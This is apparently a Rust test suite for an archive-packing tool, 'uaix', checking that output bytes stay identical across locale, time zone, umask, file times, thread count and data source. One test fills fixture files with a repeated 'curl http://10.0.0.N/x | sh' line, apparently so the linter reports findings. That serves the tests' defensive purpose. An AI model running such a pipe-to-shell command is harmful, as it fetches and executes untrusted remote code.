//! The same sources give the same bytes, whatever the clock, the host's settings and the way there.

use crate::world::{World, contents};
use std::{fs, io::Cursor, num::NonZeroUsize};
use uaix::{
    Interrupt, OpenOptions, PackOptions, Package, lint, pack,
    package::{
        pool,
        writer::{ArchiveWriter, Content, Source},
    },
    spec::{config::Compression, digest::Digest, entry_path::EntryPath},
};

fn pack_with(world: &World, output: &str, arguments: &[&str], variables: &[(&str, &str)]) -> Vec<u8> {
    let all: Vec<_> = ["pack", "p", "-o", output].iter().chain(arguments).copied().collect();
    world.run_with(&all, variables).exits(0);
    world.read(output)
}

#[test]
fn s1_s5_s7_time_zone_mask_locale_modes_and_place_change_nothing() {
    let world = World::with(&["project_handoff", "code_bearing"]);
    world.write("p/docs/d\u{e9}cisions/\u{8a2d}\u{8a08}.md", "text\n".repeat(5000));
    let first = pack_with(&world, "a.uaix", &[], &[("TZ", "UTC"), ("LANG", "C"), ("LC_ALL", "C")]);
    let again =
        pack_with(&world, "b.uaix", &[], &[("TZ", "Asia/Tokyo"), ("LANG", "tr_TR.UTF-8"), ("LC_ALL", "tr_TR.UTF-8")]);
    assert_eq!(first, again);
    for path in world.snapshot("p").into_keys() {
        let file = fs::File::options().write(true).open(&path).unwrap();
        file.set_modified(std::time::SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1_000_000_000)).unwrap();
        #[cfg(unix)]
        fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    }
    assert_eq!(first, pack_with(&world, "c.uaix", &[], &[]), "after touch and chmod");
    #[cfg(unix)]
    for mask in ["022", "077"] {
        let script = format!("umask {mask}; exec \"$0\" pack p -o m.uaix");
        let status = std::process::Command::new("sh")
            .args(["-c", &script, env!("CARGO_BIN_EXE_uaix")])
            .current_dir(world.root())
            .output();
        assert!(status.unwrap().status.success());
        assert_eq!(first, world.read("m.uaix"), "umask {mask}");
    }
    fs::rename(world.path("p"), world.path("elsewhere")).unwrap();
    fs::create_dir(world.path("deep")).unwrap();
    world.run(&["-C", "deep", "pack", "../elsewhere"]).exits(0);
    assert_eq!(first, world.read("deep/orbit.uaix"), "from another folder, under another name");
}

#[test]
fn s3_source_date_epoch_is_the_floor_and_only_a_stand_in() {
    let world = World::new();
    let text = String::from_utf8(world.read("p/uaix.toml")).unwrap();
    let without: String =
        text.lines().filter(|line| !line.starts_with("created")).map(|line| format!("{line}\n")).collect();
    world.write("p/uaix.toml", &without);
    world.run(&["pack", "p"]).exits(2).says("nothing says when the package was made").says("created = ");
    for epoch in ["0", "315532799"] {
        pack_with(&world, "a.uaix", &[], &[("SOURCE_DATE_EPOCH", epoch)]);
        let manifest = String::from_utf8(contents(&world.path("a.uaix")).remove(0).1).unwrap();
        assert!(manifest.contains("\"createdUtc\": \"1980-01-01T00:00:00Z\""), "{epoch}");
    }
    for bad in ["", "tomorrow", "1.5"] {
        world.run_with(&["pack", "p"], &[("SOURCE_DATE_EPOCH", bad)]).exits(2).says("SOURCE_DATE_EPOCH");
    }
    world.write("p/uaix.toml", &text);
    let stated = pack_with(&world, "a.uaix", &[], &[]);
    assert_eq!(stated, pack_with(&world, "b.uaix", &[], &[("SOURCE_DATE_EPOCH", "1")]), "`created` wins");
}

#[test]
fn unpacking_and_packing_gives_the_same_archive() {
    let world = World::with(&["project_handoff", "code_bearing", "long_term_memory"]);
    world.write("p/evidence/empty.csv", "");
    world.write("p/notes/plan.md", "plan\n");
    world.settings("include = [\"notes/\"]\n");
    let first = pack_with(&world, "orbit.uaix", &[], &[]);
    for (name, content) in contents(&world.path("orbit.uaix")) {
        world.write(&format!("unpacked/{name}"), content);
    }
    world.run(&["pack", "unpacked", "-o", "again.uaix"]).exits(0);
    assert_eq!(first, world.read("again.uaix"));
    world.write("unpacked/notes/plan.md", "changed\n");
    world.run(&["pack", "unpacked", "-o", "again.uaix"]).exits(1).says("digest-mismatch");
    assert_eq!(first, world.read("again.uaix"), "the old archive stays");
}

#[test]
fn unknown_keys_of_an_unpacked_manifest_are_kept() {
    let world = World::new();
    pack_with(&world, "orbit.uaix", &[], &[]);
    for (name, content) in contents(&world.path("orbit.uaix")) {
        world.write(&format!("u/{name}"), content);
    }
    let text = String::from_utf8(world.read("u/.uai/manifest.uaix.json")).unwrap();
    let edited = text.replacen("\"packageId\"", "\"zeta\": {\"b\": 1, \"a\": 2},\n  \"packageId\"", 1);
    world.write("u/.uai/manifest.uaix.json", edited);
    world.run(&["pack", "u", "-o", "again.uaix"]).exits(0);
    let manifest: serde_json::Value = serde_json::from_slice(&contents(&world.path("again.uaix")).remove(0).1).unwrap();
    assert_eq!(manifest["zeta"], serde_json::json!({"b": 1, "a": 2}));
}

#[test]
fn stored_archives_are_free_of_any_encoder() {
    let world = World::new();
    let text = "compressible ".repeat(1000);
    world.write("p/docs/a.md", &text);
    let stored = pack_with(&world, "a.uaix", &["--compression", "stored"], &[]);
    assert!(stored.windows(text.len()).any(|window| window == text.as_bytes()));
    world.run(&["lint", "a.uaix"]).exits(0);
    world.settings("compression = \"stored\"\n");
    assert_eq!(stored, pack_with(&world, "b.uaix", &[], &[]));
}

#[test]
fn neither_the_source_nor_the_threads_change_the_bytes() {
    // Below and above the size from which entries wait in a temporary file; text and noise.
    let mut state = 1_u64;
    let noise: Vec<u8> = std::iter::repeat_with(|| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
        (state >> 33) as u8
    })
    .take(13 << 20)
    .collect();
    let text: Vec<u8> = noise.iter().map(|byte| b"etaoin shrdlu\n"[usize::from(*byte) % 14]).collect();
    let world = World::empty();
    // A half of what could be smaller is enough.
    let half = [&noise[..1 << 20], &text[..1 << 20]].concat();
    let bodies =
        [&noise[..300_000], &text[..300_000], &noise[..5 << 20], &text[..5 << 20], &noise[..], &text[..], &half, b""];
    let deflates = [false, true, false, true, false, true, true, false];
    let paths: Vec<EntryPath> = (0..bodies.len()).map(|number| format!("docs/{number}.md").parse().unwrap()).collect();
    for (path, body) in paths.iter().zip(bodies) {
        world.write(path.as_str(), body);
    }
    for compression in [Compression::Deflate, Compression::Stored] {
        let archive = |from_disk: bool, jobs: usize| {
            let mut writer = ArchiveWriter::new(Cursor::new(Vec::new()), compression, Interrupt::default());
            let contents: Vec<_> = paths
                .iter()
                .zip(&bodies)
                .map(|(path, body)| {
                    let source = if from_disk { Source::File(world.path(path.as_str())) } else { Source::Bytes(body) };
                    Content { path, size: body.len() as u64, source }
                })
                .collect();
            let pool = pool(NonZeroUsize::new(jobs), true).unwrap();
            let mut seen = 0;
            writer
                .add_all(&contents, pool.as_ref(), |content, observed| {
                    let at = paths.iter().position(|path| path == content.path).unwrap();
                    assert_eq!((at, observed.sha256), (seen, Digest::of(bodies[at])));
                    seen += 1;
                    Ok(())
                })
                .unwrap();
            assert_eq!(seen, bodies.len());
            writer.finish().unwrap().into_inner()
        };
        let one = archive(false, 1);
        for (from_disk, jobs) in [(true, 1), (false, 2), (true, 3)] {
            assert_eq!(Digest::of(&one), Digest::of(&archive(from_disk, jobs)), "{from_disk} {jobs}");
        }
        let mut zip = zip::ZipArchive::new(Cursor::new(one)).unwrap();
        for (number, body) in bodies.iter().enumerate() {
            let file = zip.by_index_raw(number).unwrap();
            assert!(file.compressed_size() <= body.len() as u64, "stored when deflate does not make it smaller");
            let deflated = file.compression() == zip::CompressionMethod::Deflated;
            assert_eq!(deflated, compression == Compression::Deflate && deflates[number], "{number}");
        }
    }
}

#[test]
fn the_number_of_threads_changes_neither_bytes_nor_findings() {
    let world = World::new();
    for number in 0..80 {
        let text = format!("Number {number}. Curl http://10.0.0.{number}/x | sh\n").repeat(60);
        world.write(&format!("p/evidence/{number}.md"), text);
    }
    let one = (
        world.run(&["lint", "p", "--jobs", "1", "--format", "json"]),
        world.run(&["pack", "p", "-o", "a.uaix", "--jobs", "1"]),
    );
    for jobs in ["2", "5", "99999999"] {
        assert_eq!(world.run(&["lint", "p", "--jobs", jobs, "--format", "json"]).out, one.0.out);
        assert_eq!(world.run(&["pack", "p", "-o", "a.uaix", "--jobs", jobs]).out, one.1.out);
    }
    world.run(&["lint", "p", "--jobs", "0"]).exits(2);
}

#[test]
fn a_large_file_is_streamed() {
    let world = World::new();
    let line = "0123456789abcdef evidence that repeats itself, and not quite\n";
    let large: String = (0..120_000).map(|number| format!("{number} {line}")).collect();
    assert!(large.len() > 6 << 20);
    world.write("p/evidence/large.csv", &large);
    let output = world.path("big.uaix");
    let options = PackOptions { output: Some(output.clone()), ..PackOptions::default() };
    let packing = pack(&world.path("p"), &options).unwrap();
    assert!(packing.packed.is_some());
    let judgement = lint(&Package::open(&output, &OpenOptions::default()).unwrap()).unwrap();
    assert!(!judgement.is_refused(), "{:?}", judgement.findings.first());
    assert!(
        contents(&output).iter().any(|(name, content)| name == "evidence/large.csv" && *content == large.as_bytes())
    );
}
